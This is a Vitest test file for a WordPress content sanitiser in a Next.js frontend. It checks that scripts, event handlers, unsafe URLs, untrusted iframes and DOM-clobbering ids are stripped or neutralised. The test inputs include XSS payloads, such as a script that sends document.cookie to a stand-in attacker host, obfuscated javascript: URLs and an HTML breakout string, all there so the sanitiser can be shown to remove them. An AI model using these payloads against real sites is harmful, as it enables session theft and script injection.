import { createElement, Fragment } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, it, expect } from 'vitest';
import { singleAddress } from '@/lib/wordpress';
import { parseSanitizedHtml, renderContent } from './render';
import { CONTENT_ID_PREFIX, MAX_NESTING_DEPTH, sanitizeContent } from './sanitize';

const HOME = singleAddress('http://wp.example.test');
const clean = (html: string) => sanitizeContent(html, HOME);

describe('sanitizeContent removes active content', () => {
  it('removes <script> elements and their text', () => {
    const html = clean(
      '<p>Tide tables follow.</p><script>document.location="https://evil.example.net/?"+document.cookie</script>',
    );
    expect(html).toBe('<p>Tide tables follow.</p>');
    expect(html).not.toContain('document.cookie');
  });

  it('removes on* event handlers', () => {
    const html = clean(
      '<p onclick="steal()">Click</p><img src="http://wp.example.test/wp-content/uploads/a.jpg" onerror="steal()" onload="steal()">',
    );
    expect(html).not.toMatch(/\bon[a-z]+=/i);
    expect(html).not.toContain('steal');
    expect(html).toContain('<p>Click</p>');
    expect(html).toContain('src="http://wp.example.test/wp-content/uploads/a.jpg"');
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java&#x09;script:alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ])('removes the href %j but keeps the link text', (href) => {
    const html = clean(`<a href="${href}">Read the logbook</a>`);
    expect(html).toBe('<a>Read the logbook</a>');
  });

  it('removes data: image sources', () => {
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="x">')).not.toContain('data:');
  });

  it('never keeps the source of an iframe from a host that is not allowlisted', () => {
    const html = clean('<iframe src="https://tracker.example.net/embed/1"></iframe><p>After</p>');
    expect(html).not.toContain('tracker.example.net');
    expect(html).toContain('<p>After</p>');
  });

  it('removes an iframe from a host that is not allowlisted entirely', () => {
    expect(clean('<iframe src="https://tracker.example.net/embed/1"></iframe><p>After</p>')).toBe(
      '<p>After</p>',
    );
  });

  it('removes protocol-relative and relative iframes', () => {
    expect(clean('<iframe src="//www.youtube.com/embed/abc"></iframe>')).not.toContain('src=');
    expect(clean('<iframe src="/wp-admin/"></iframe>')).not.toContain('src=');
  });
});

describe('sanitizeContent keeps safe content', () => {
  it('keeps a YouTube iframe and sandboxes it', () => {
    const html = clean(
      '<figure class="wp-block-embed is-provider-youtube"><div class="wp-block-embed__wrapper"><iframe title="Gull Rock at night" width="500" height="281" src="https://www.youtube.com/embed/Xy12AbCdEfG?feature=oembed" allow="autoplay; encrypted-media" allowfullscreen></iframe></div></figure>',
    );
    expect(html).toContain('src="https://www.youtube.com/embed/Xy12AbCdEfG?feature=oembed"');
    expect(html).toMatch(/<iframe[^>]* sandbox="[^"]*allow-scripts[^"]*"/);
    expect(html).toContain('loading="lazy"');
    expect(html).toContain('class="wp-block-embed is-provider-youtube"');
  });

  it('replaces an iframe’s own sandbox with the fixed one', () => {
    const html = clean(
      '<iframe src="https://player.vimeo.com/video/1" sandbox="allow-top-navigation"></iframe>',
    );
    expect(html).not.toContain('allow-top-navigation');
    expect(html).toContain('sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"');
  });

  it('rewrites links into WordPress as frontend paths', () => {
    expect(clean('<a href="http://wp.example.test/some-post/">Some post</a>')).toBe(
      '<a href="/some-post/">Some post</a>',
    );
    expect(clean('<a href="http://wp.example.test/?p=412">Plain</a>')).toBe('<a href="/?p=412">Plain</a>');
  });

  it('rewrites links relative to a sub-folder install', () => {
    expect(
      sanitizeContent(
        '<a href="http://wp.example.test/blog/salt-roads/">x</a>',
        singleAddress('http://wp.example.test/blog'),
      ),
    ).toBe('<a href="/salt-roads/">x</a>');
  });

  it('reads links against the Site Address when it is in a sub-folder of another origin, and leaves media on the WordPress Address', () => {
    const addresses = {
      home: 'https://example.org/en',
      wordpressAddress: 'https://cms.example.org',
      wordpressUrl: 'http://wordpress:8080',
    };
    expect(
      sanitizeContent(
        '<p><a href="https://example.org/en/salt-roads/">a</a><a href="https://example.org/en">b</a>' +
          '<a href="/en/about/#team">c</a><a href="https://cms.example.org/salt-roads/">d</a>' +
          '<a href="https://example.org/fr/salt-roads/">e</a>' +
          '<a href="https://cms.example.org/wp-content/uploads/report.pdf">f</a>' +
          '<img src="https://cms.example.org/wp-content/uploads/pier.jpg" alt=""></p>',
        addresses,
      ),
    ).toBe(
      '<p><a href="/salt-roads/">a</a><a href="/">b</a><a href="/about/#team">c</a><a href="/salt-roads/">d</a>' +
        '<a href="https://example.org/fr/salt-roads/">e</a>' +
        '<a href="https://cms.example.org/wp-content/uploads/report.pdf">f</a>' +
        '<img src="https://cms.example.org/wp-content/uploads/pier.jpg" alt="" loading="lazy" decoding="async" /></p>',
    );
  });

  it('never turns a WordPress link into a link to another host', () => {
    expect(clean('<a href="http://wp.example.test//evil.example/x">x</a>')).toBe(
      '<a href="/evil.example/x">x</a>',
    );
    expect(clean('<a href="http://wp.example.test/\\evil.example/x">x</a>')).toBe(
      '<a href="/evil.example/x">x</a>',
    );
  });

  it('leaves external, relative, mailto and anchor links alone', () => {
    for (const link of [
      '<a href="https://archive.example.org/gull-rock/">Archive</a>',
      '<a href="https://wp.example.test/some-post/">Other scheme</a>',
      '<a href="/already-relative/">Relative</a>',
      '<a href="mailto:letters@lantern.example.test">Write</a>',
      '<a href="#comments">Join the discussion</a>',
    ]) {
      expect(clean(link)).toBe(link);
    }
  });

  it('keeps the fragment of a rewritten link', () => {
    expect(clean('<a href="http://wp.example.test/some-post/#part-two">Part two</a>')).toBe(
      '<a href="/some-post/#part-two">Part two</a>',
    );
  });

  it('leaves links to uploaded files pointing at WordPress', () => {
    const link =
      '<a href="http://wp.example.test/wp-content/uploads/2024/03/gull-rock-logbook.pdf">Logbook (PDF)</a>';
    expect(clean(link)).toBe(link);
  });

  it('adds rel="noopener noreferrer" to target=_blank links', () => {
    expect(clean('<a href="https://archive.example.org/" target="_blank">Archive</a>')).toBe(
      '<a href="https://archive.example.org/" target="_blank" rel="noopener noreferrer">Archive</a>',
    );
  });

  it('makes images load lazily', () => {
    const html = clean(
      '<img src="http://wp.example.test/wp-content/uploads/2024/03/gull-rock-lamp-1024x576.jpg" alt="The lamp room" width="1024" height="576" loading="eager">',
    );
    expect(html).toContain('loading="lazy"');
    expect(html).not.toContain('loading="eager"');
    expect(html).toContain('alt="The lamp room"');
    expect(html).toContain('width="1024"');
  });

  it('drops unsafe style declarations and keeps text-align', () => {
    const html = clean('<p style="background:url(javascript:alert(1));text-align:center">Centred</p>');
    expect(html).toBe('<p style="text-align:center">Centred</p>');
    expect(
      clean('<p style="text-align:center;background-image:url(https://evil.example.net/t.gif)">x</p>'),
    ).toBe('<p style="text-align:center">x</p>');
  });

  it('keeps what the block editor writes inline: typography, colour, spacing, writing mode', () => {
    const style =
      'color:#cf2e2e;background-color:#fcb900;font-style:italic;font-weight:700;line-height:2;letter-spacing:5px;text-decoration:underline;text-transform:uppercase;writing-mode:vertical-rl;padding-top:var(--wp--preset--spacing--50)';
    expect(clean(`<p style="${style}">Styled</p>`)).toBe(`<p style="${style}">Styled</p>`);
  });

  it('keeps a cover image from the media origin and drops one from elsewhere', () => {
    const media = 'http://wp.example.test/wp-content/uploads/sea.jpg';
    expect(clean(`<div style="background-image:url(${media});background-position:12% 80%">x</div>`)).toBe(
      `<div style="background-image:url(${media});background-position:12% 80%">x</div>`,
    );
    expect(clean('<div style="background-image:url(https://evil.example.net/sea.jpg)">x</div>')).toBe(
      '<div>x</div>',
    );
  });

  it('drops a whole style that has nothing safe in it', () => {
    expect(clean('<p style="position:fixed;top:0">x</p>')).toBe('<p>x</p>');
  });

  it('keeps block markup WordPress produces', () => {
    const html =
      '<figure class="wp-block-image"><figcaption class="wp-element-caption">A caption</figcaption></figure>';
    expect(clean(html)).toBe(html);
  });
});

/** Every `#…` link of a fragment and every id it declares. */
function fragmentLinksAndIds(html: string) {
  const hrefs = [...html.matchAll(/href="#([^"]+)"/g)].map((match) => match[1]);
  const ids = [...html.matchAll(/\sid="([^"]+)"/g)].map((match) => match[1]);
  return { hrefs, ids };
}

describe('content ids live in their own namespace', () => {
  it('cannot take the name of Next’s flight global or of the app’s landmarks and anchors', () => {
    for (const id of ['__next_f', 'main', 'comments', 'respond', 'comment-12', 'comment-status-pending']) {
      expect(clean(`<p id="${id}">x</p>`)).toBe(`<p id="${CONTENT_ID_PREFIX}${id}">x</p>`);
    }
    expect(clean('<a name="main">x</a>')).toBe(`<a name="${CONTENT_ID_PREFIX}main">x</a>`);
  });

  it('no content id is a JavaScript identifier, so none can shadow a global', () => {
    const html = clean('<div id="webpackChunk_N_E"><span id="__NEXT_DATA__">x</span></div>');
    for (const id of fragmentLinksAndIds(html).ids) expect(id).not.toMatch(/^[A-Za-z_$][\w$]*$/);
  });

  it('keeps WordPress footnotes working: each link and its way back point at ids that exist', () => {
    const note = '0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b';
    const html = clean(
      `<p>The lamp was lit in 1871.<sup data-fn="${note}" class="fn"><a href="#${note}" id="${note}-link">1</a></sup></p>` +
        `<ol class="wp-block-footnotes"><li id="${note}">The keeper’s log. <a href="#${note}-link" aria-label="Jump to footnote reference 1">↩︎</a></li></ol>`,
    );
    const { hrefs, ids } = fragmentLinksAndIds(html);
    expect(hrefs).toEqual([`${CONTENT_ID_PREFIX}${note}`, `${CONTENT_ID_PREFIX}${note}-link`]);
    expect(ids.sort()).toEqual([...hrefs].sort());
  });

  it('keeps a Yoast table of contents and classic #footnote-1 links pointing at their targets', () => {
    const html = clean(
      '<div class="wp-block-yoast-seo-table-of-contents yoast-table-of-contents"><ul>' +
        '<li><a href="#h-the-lamp-room" data-level="2">The lamp room</a></li>' +
        '<li><a href="#h-the%20keeper">The keeper</a></li></ul></div>' +
        '<h2 class="wp-block-heading" id="h-the-lamp-room">The lamp room</h2>' +
        '<h2 id="h-the keeper">The keeper</h2>' +
        '<p>See the note<a href="#footnote-1"><sup>1</sup></a>.</p><p id="footnote-1">1. From the log.</p>',
    );
    expect(html).toContain(`<a href="#${CONTENT_ID_PREFIX}h-the-lamp-room">`);
    expect(html).toContain(`id="${CONTENT_ID_PREFIX}h-the-lamp-room"`);
    expect(html).toContain(`<a href="#${CONTENT_ID_PREFIX}h-the%20keeper">`);
    expect(html).toContain(`id="${CONTENT_ID_PREFIX}h-the keeper"`);
    expect(html).toContain(`<a href="#${CONTENT_ID_PREFIX}footnote-1">`);
    expect(html).toContain(`<p id="${CONTENT_ID_PREFIX}footnote-1">`);
  });

  it('moves old-style named anchors and the links to them, and leaves the page’s own anchors alone', () => {
    expect(clean('<a href="#part-two">Skip ahead</a><a name="part-two"></a>')).toBe(
      `<a href="#${CONTENT_ID_PREFIX}part-two">Skip ahead</a><a name="${CONTENT_ID_PREFIX}part-two"></a>`,
    );
    expect(
      clean('<a href="#comments">Comments</a><a href="#main">Top</a><a href="#">x</a><h2 id="after">y</h2>'),
    ).toBe(
      `<a href="#comments">Comments</a><a href="#main">Top</a><a href="#">x</a><h2 id="${CONTENT_ID_PREFIX}after">y</h2>`,
    );
  });

  it('moves table headers and ARIA references with the ids they name', () => {
    const html = clean(
      '<table><tr><th id="tide">Tide</th></tr><tr><td headers="tide  when">High</td></tr></table>' +
        '<figure aria-labelledby="cap" aria-describedby="cap note"><figcaption id="cap">Map</figcaption></figure>',
    );
    expect(html).toContain(`headers="${CONTENT_ID_PREFIX}tide ${CONTENT_ID_PREFIX}when"`);
    expect(html).toContain(`aria-labelledby="${CONTENT_ID_PREFIX}cap"`);
    expect(html).toContain(`aria-describedby="${CONTENT_ID_PREFIX}cap ${CONTENT_ID_PREFIX}note"`);
  });

  it('drops an empty id rather than declaring the bare prefix', () => {
    expect(clean('<p id="">x</p><p id="  ">y</p>')).toBe('<p>x</p><p>y</p>');
  });

  it('keeps the namespace through rendering', () => {
    const markup = renderToStaticMarkup(
      createElement(Fragment, null, renderContent('<p id="main">x</p><a href="#main">y</a>', HOME)),
    );
    expect(markup).toBe(`<p id="${CONTENT_ID_PREFIX}main">x</p><a href="#${CONTENT_ID_PREFIX}main">y</a>`);
  });
});

describe('rendering sanitised HTML', () => {
  it('drops the elements whose text would be written unescaped, whatever it is handed', () => {
    const breakout = '</div></article></main></body><script>window.__pwned_breakout=1</script>';
    const markup = renderToStaticMarkup(
      createElement(
        Fragment,
        null,
        parseSanitizedHtml(`<p>Tides</p><script>${breakout}</script><style>${breakout}</style>`),
      ),
    );
    expect(markup).toBe('<p>Tides</p>');
  });
});

describe('heading levels', () => {
  it('moves headings so the highest is an h2 under the page title, keeping their order', () => {
    expect(clean('<h3>A</h3><p>x</p><h4>B</h4>')).toBe('<h2>A</h2><p>x</p><h3>B</h3>');
    expect(clean('<h1>A</h1><h2>B</h2>')).toBe('<h2>A</h2><h3>B</h3>');
    expect(clean('<h2 class="wp-block-heading">A</h2>')).toBe('<h2 class="wp-block-heading">A</h2>');
  });
});

describe('sanitizeCommentContent', () => {
  const home = singleAddress('https://cms.example.com');

  it('keeps what commenters may write and drops the rest', async () => {
    const { sanitizeCommentContent } = await import('./sanitize');
    const html = sanitizeCommentContent(
      '<p id="x" class="y" style="color:red">Hi <strong>there</strong><img src="https://t.example/p.gif"><script>alert(1)</script><a href="javascript:alert(1)" onclick="x()">bad</a></p>',
      home,
    );
    expect(html).toBe('<p>Hi <strong>there</strong><a rel="nofollow ugc">bad</a></p>');
  });

  it('marks outside links as user-generated and makes links into the site frontend paths', async () => {
    const { sanitizeCommentContent } = await import('./sanitize');
    expect(sanitizeCommentContent('<a href="https://elsewhere.example/">x</a>', home)).toBe(
      '<a href="https://elsewhere.example/" rel="nofollow ugc">x</a>',
    );
    expect(sanitizeCommentContent('<a href="https://cms.example.com/a-story/" rel="x">y</a>', home)).toBe(
      '<a href="/a-story/">y</a>',
    );
  });
});

describe('sanitizeContent bounds nesting', () => {
  it('unwraps elements nested deeper than MAX_NESTING_DEPTH, keeping their text', () => {
    const depth = 5000;
    const html = clean(`${'<div>'.repeat(depth)}<p>At the bottom of the well.</p>${'</div>'.repeat(depth)}`);
    expect(html).toContain('At the bottom of the well.');
    expect(html.match(/<div>/g)).toHaveLength(MAX_NESTING_DEPTH);
  });

  it('renders content 5,000 levels deep without exhausting the stack', () => {
    const depth = 5000;
    const element = renderContent(`${'<div>'.repeat(depth)}deep${'</div>'.repeat(depth)}`, HOME);
    expect(renderToStaticMarkup(createElement(Fragment, null, element))).toContain('deep');
  });

  it('keeps the nesting of ordinary block content', () => {
    const nested = '<div><div><div><ul><li><p><strong><em>Kept</em></strong></p></li></ul></div></div></div>';
    expect(clean(nested)).toBe(nested);
  });
});
